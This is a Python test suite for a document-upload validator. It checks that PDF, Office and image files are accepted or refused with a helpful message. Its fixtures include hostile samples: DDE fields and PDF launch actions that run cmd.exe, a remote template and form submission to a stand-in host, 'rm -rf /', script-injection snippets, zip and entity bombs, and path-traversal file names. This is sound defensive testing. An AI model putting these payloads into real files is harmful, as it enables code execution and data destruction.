"""What comes in is what it says it is, or a sentence says what to do."""

import struct
import unicodedata
from pathlib import Path

import pikepdf
import pytest

from papers import intake
from papers.errors import (
    ArchiveBomb,
    BadFileName,
    BrokenFile,
    EmptyFile,
    FileNameTooLong,
    FileTooLarge,
    HasMacros,
    HasScripts,
    ImpossiblePageSize,
    LyingFileType,
    NoPages,
    OldOfficeFile,
    PasswordProtected,
    PictureTooLarge,
    ProgramFile,
    UnknownFileType,
    UploadRefused,
)
from tests.papers import samples

GOOD = {
    "to-trinh.pdf": (samples.pdf, "pdf"),
    "to-trinh.docx": (samples.word, "docx"),
    "phu-luc.xlsx": (samples.sheet, "xlsx"),
    "trinh-chieu.pptx": (samples.slides, "pptx"),
    "anh.png": (samples.picture, "png"),
    "anh.jpg": (samples.picture, "jpeg"),
    "anh.webp": (samples.picture, "webp"),
    "quet.tiff": (samples.picture, "tiff"),
}


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_is_taken_in_as_what_it_is(name: str, tmp_path: Path) -> None:
    make, kind = GOOD[name]
    examined = intake.examine(make(tmp_path / name), name)
    assert (examined.kind.name, examined.name) == (kind, name)
    assert examined.size == (tmp_path / name).stat().st_size
    assert len(examined.sha256) == 64


def test_an_archive_whose_table_names_a_place_before_its_beginning_is_broken(tmp_path: Path) -> None:
    path = samples.word(tmp_path / "a.docx")
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x05\x06") + 16  # where the table begins: the first file then begins at -1
    struct.pack_into("<L", data, at, struct.unpack_from("<L", data, at)[0] + 1)
    path.write_bytes(data)
    with pytest.raises(BrokenFile):
        intake.examine(path, "a.docx")


def test_pages_of_a_pdf_are_counted(tmp_path: Path) -> None:
    assert intake.examine(samples.pdf(tmp_path / "a.pdf", pages=7), "a.pdf").pages == 7


def _written(data: bytes):
    def make(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return make


def _office_with(changes: dict[str, bytes]):
    return lambda path: samples.repacked(samples.word(path.with_suffix(".src.docx")), path, changes)


_DDE = b'<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>'
_BOMB_XML = b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
_REMOTE = (
    b'<Relationships xmlns="r"><Relationship Id="1" TargetMode="External" Target="http://x.invalid/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
_SPLIT_DDE = (
    b'<w:document xmlns:w="w"><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:rPr/>'
    b"<w:instrText xml:space='preserve'>&#69;AUTO c:\\cmd.exe</w:instrText></w:r></w:document>"
)


def _linked(kind: str, where: str, mode: str = "External") -> dict[str, bytes]:
    """A part outside the file, by its kind of relation."""
    text = (
        f'<Relationships xmlns="r"><Relationship Id="1" TargetMode="{mode}" Target="{where}" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )
    return {"word/_rels/header1.xml.rels": text.encode()}


def _pdf_with(**of_root: dict[str, object]):
    """A PDF with these entries in its catalogue, or (`Page`) in its first page."""

    def make(path: Path) -> Path:
        samples.pdf(path)
        with pikepdf.open(path, allow_overwriting_input=True) as file:
            for name, value in of_root.items():
                place = file.pages[0].obj if name == "Page" else file.Root
                for key, inner in (value if name == "Page" else {name: value}).items():
                    place[f"/{key}"] = _as_pdf(inner)
            file.save(path)
        return path

    return make


def _as_pdf(value: object) -> object:
    if isinstance(value, dict):
        return pikepdf.Dictionary({f"/{key}": _as_pdf(inner) for key, inner in value.items()})
    if isinstance(value, list):
        return pikepdf.Array([_as_pdf(inner) for inner in value])
    return pikepdf.Name(value) if isinstance(value, str) and value.startswith("/") else value


def _link(action: dict[str, object]) -> dict[str, object]:
    return {"Annots": [{"Type": "/Annot", "Subtype": "/Link", "Rect": [0, 0, 9, 9], "A": action}]}


_ELSEWHERE = "\\\\may-la\\chung\\a.pdf"
BAD = {
    "dde field cut into runs": ("a.docx", _office_with({"word/document.xml": _SPLIT_DDE}), HasScripts),
    "picture on another machine": (
        "a.docx",
        _office_with(_linked("image", "file://may-la/chung/a.png")),
        HasScripts,
    ),
    "remote template in other letters": (
        "a.docx",
        _office_with(_linked("attachedTemplate", "http://x.invalid/", "external")),
        HasScripts,
    ),
    "pdf link starts a program": (
        "a.pdf",
        _pdf_with(Page=_link({"S": "/Launch", "F": "cmd.exe"})),
        HasScripts,
    ),
    "pdf link posts a form": (
        "a.pdf",
        _pdf_with(Page=_link({"S": "/SubmitForm", "F": {"FS": "/URL", "F": "http://x.invalid/"}})),
        HasScripts,
    ),
    "pdf opens an address by itself": (
        "a.pdf",
        _pdf_with(OpenAction={"S": "/URI", "URI": "http://x.invalid/"}),
        HasScripts,
    ),
    "pdf page opens a file elsewhere by itself": (
        "a.pdf",
        _pdf_with(Page={"AA": {"O": {"S": "/GoToR", "F": _ELSEWHERE, "D": [0, "/Fit"]}}}),
        HasScripts,
    ),
    "empty": ("a.pdf", _written(b""), EmptyFile),
    "program": ("a.exe", _written(b"MZ" + bytes(500)), ProgramFile),
    "program called a paper": ("a.pdf", _written(b"MZ" + bytes(500)), ProgramFile),
    "linux program": ("a.docx", _written(b"\x7fELF" + bytes(500)), ProgramFile),
    "shell script": ("a.sh", _written(b"echo hi\n"), ProgramFile),
    "script with a first line": ("a.pdf", _written(b"#!/bin/sh\nrm -rf /\n"), ProgramFile),
    "page called a paper": ("a.pdf", _written(b"<html><script>alert(1)</script></html>"), LyingFileType),
    "drawing with code": ("a.png", _written(b"<svg onload='alert(1)'></svg>"), LyingFileType),
    "drawing": ("a.svg", _written(b"<svg></svg>"), UnknownFileType),
    "text called word": ("a.docx", _written("Tờ trình".encode() * 40), LyingFileType),
    "junk before a pdf": ("a.pdf", lambda p: _prefixed(p, b"GIF89a" + bytes(50)), LyingFileType),
    "picture called pdf": (
        "a.pdf",
        lambda p: samples.picture(p.with_suffix(".png")).rename(p),
        LyingFileType,
    ),
    "pdf called word": ("a.docx", lambda p: samples.pdf(p), LyingFileType),
    "word called excel": ("a.xlsx", lambda p: samples.word(p), LyingFileType),
    "pdf with two endings": ("a.pdf.exe", lambda p: samples.pdf(p), LyingFileType),
    "plain archive": ("a.zip", lambda p: samples.zip_of(p, {"a.txt": b"a"}), UnknownFileType),
    "archive called word": ("a.docx", lambda p: samples.zip_of(p, {"a.txt": b"a"}), UnknownFileType),
    "open document": ("a.odt", lambda p: samples.zip_of(p, {"mimetype": b"x"}), UnknownFileType),
    "old word": ("a.doc", samples.old_office, OldOfficeFile),
    "locked word": ("a.docx", samples.locked_office, PasswordProtected),
    "locked pdf": ("a.pdf", samples.locked_pdf, PasswordProtected),
    "torn pdf": ("a.pdf", samples.torn_pdf, BrokenFile),
    "pdf of a head only": ("a.pdf", _written(b"%PDF-1.7\n" + bytes(300)), BrokenFile),
    "pdf page of a thousand kilometres": (
        "a.pdf",
        _pdf_with(Page={"MediaBox": [0, 0, 1e9, 1e9]}),
        ImpossiblePageSize,
    ),
    "pdf page without area": ("a.pdf", _pdf_with(Page={"MediaBox": [10, 10, 10, 800]}), ImpossiblePageSize),
    "pdf without pages": ("a.pdf", samples.pageless_pdf, NoPages),
    "pdf runs a script": ("a.pdf", samples.scripted_pdf, HasScripts),
    "pdf page runs a script": ("a.pdf", lambda p: samples.scripted_pdf(p, "page"), HasScripts),
    "pdf names a script": ("a.pdf", lambda p: samples.scripted_pdf(p, "names"), HasScripts),
    "pdf starts a program": ("a.pdf", lambda p: samples.scripted_pdf(p, "launch"), HasScripts),
    "pdf carries a program": ("a.pdf", lambda p: samples.scripted_pdf(p, "packed"), ProgramFile),
    "torn word": ("a.docx", lambda p: _cut(samples.word(p)), BrokenFile),
    "word with macros": ("a.docx", _office_with({"word/vbaProject.bin": b"x"}), HasMacros),
    "macro ending": ("a.docm", lambda p: samples.word(p), HasMacros),
    "macro content type": (
        "a.docx",
        _office_with({"[Content_Types].xml": b"...macroEnabled.main+xml"}),
        HasMacros,
    ),
    "excel 4 macros": ("a.docx", _office_with({"xl/macrosheets/sheet1.xml": b"<a/>"}), HasMacros),
    "active control": ("a.docx", _office_with({"word/activeX/activeX1.xml": b"<a/>"}), HasScripts),
    "program packed in word": ("a.docx", _office_with({"word/embeddings/x.exe": b"MZ"}), ProgramFile),
    "page packed in word": ("a.docx", _office_with({"word/x.html": b"<html>"}), HasScripts),
    "dde field": ("a.docx", _office_with({"word/document.xml": _DDE}), HasScripts),
    "remote template": ("a.docx", _office_with({"word/_rels/settings.xml.rels": _REMOTE}), HasScripts),
    "entities": ("a.docx", _office_with({"word/document.xml": _BOMB_XML}), BrokenFile),
    "unclosed xml": ("a.docx", _office_with({"word/document.xml": b"<a><b></a>"}), BrokenFile),
    "archive climbing out": ("a.docx", _office_with({"../../etc/cron.d/x": b"x"}), BrokenFile),
    "zip bomb": ("a.docx", samples.zip_bomb, ArchiveBomb),
    "overlapping bomb": ("a.docx", samples.quoted_bomb, ArchiveBomb),
    "too many parts": (
        "a.docx",
        lambda p: samples.zip_of(p, {f"p{n}": b"" for n in range(10_001)}),
        ArchiveBomb,
    ),
    "torn picture": ("a.png", lambda p: _cut(samples.picture(p)), BrokenFile),
    "giant picture": ("a.png", samples.huge_png, PictureTooLarge),
}


HARMLESS = {
    "word with a link to click": ("a.docx", _office_with(_linked("hyperlink", "https://chinhphu.vn/"))),
    "pdf with a link to click": (
        "a.pdf",
        _pdf_with(Page=_link({"S": "/URI", "URI": "https://chinhphu.vn/"})),
    ),
    "pdf that opens at a page": ("a.pdf", _pdf_with(OpenAction={"S": "/GoTo", "D": [0, "/Fit"]})),
    "word about dde": (
        "a.docx",
        _office_with({"word/document.xml": b'<w:document xmlns:w="w"><w:t>DDE</w:t></w:document>'}),
    ),
}


@pytest.mark.parametrize("case", HARMLESS)
def test_what_waits_for_a_click_is_taken_in(case: str, tmp_path: Path) -> None:
    name, make = HARMLESS[case]
    path = make(tmp_path / ("file" + Path(name).suffix))
    assert intake.examine(path, name).kind.name == Path(name).suffix[1:]


def _cut(path: Path) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])
    return path


def _prefixed(path: Path, junk: bytes) -> Path:
    path.write_bytes(junk + samples.pdf(path.with_suffix(".src.pdf")).read_bytes())
    return path


@pytest.mark.parametrize("case", BAD)
def test_a_bad_file_is_refused_with_a_sentence_that_says_what_to_do(case: str, tmp_path: Path) -> None:
    name, make, refusal = BAD[case]
    path = make(tmp_path / ("file" + Path(name).suffix))
    before = path.read_bytes()
    with pytest.raises(UploadRefused) as caught:
        intake.examine(path, name)
    assert type(caught.value) is refusal
    sentence = caught.value.message
    assert "Đề nghị" in sentence and "!" not in sentence and "%(" not in sentence
    assert path.read_bytes() == before


BAD_NAMES = [
    "../../etc/passwd.pdf",
    "a/b.pdf",
    "..\\b.pdf",
    "a\x00.pdf",
    "a\nb.pdf",
    "fdp\u202e.exe.pdf",
    "..",
    "  ",
]


@pytest.mark.parametrize("name", BAD_NAMES)
def test_a_name_that_leaves_its_folder_or_fools_the_eye_is_refused(name: str) -> None:
    with pytest.raises(BadFileName) as caught:
        intake.clean_name(name)
    assert "đổi tên" in caught.value.message


def test_a_name_in_decomposed_letters_is_kept_composed() -> None:
    typed = unicodedata.normalize("NFD", "Tờ trình về dịch vụ công.pdf")
    assert intake.clean_name(typed) == "Tờ trình về dịch vụ công.pdf"


def test_a_name_nobody_could_save_is_refused() -> None:
    with pytest.raises(FileNameTooLong):
        intake.clean_name("ệ" * 200 + ".pdf")


def test_a_name_without_an_ending_gets_the_true_one(tmp_path: Path) -> None:
    name, kind = intake.look(samples.pdf(tmp_path / "x"), "Nghị quyết 17.2019")
    assert (name, kind.name) == ("Nghị quyết 17.2019.pdf", "pdf")


def test_a_file_over_the_limit_is_refused_before_it_is_read_whole(tmp_path: Path) -> None:
    source = (tmp_path / "big").open("wb+")
    source.truncate(5 * 1024 * 1024)
    with pytest.raises(FileTooLarge) as caught:
        intake.save_stream(source, tmp_path / "copy", limit_mib=2, name="big.pdf")
    assert (tmp_path / "copy").stat().st_size <= 2 * 1024 * 1024
    assert "vượt giới hạn 2 MB" in caught.value.message
    source.close()
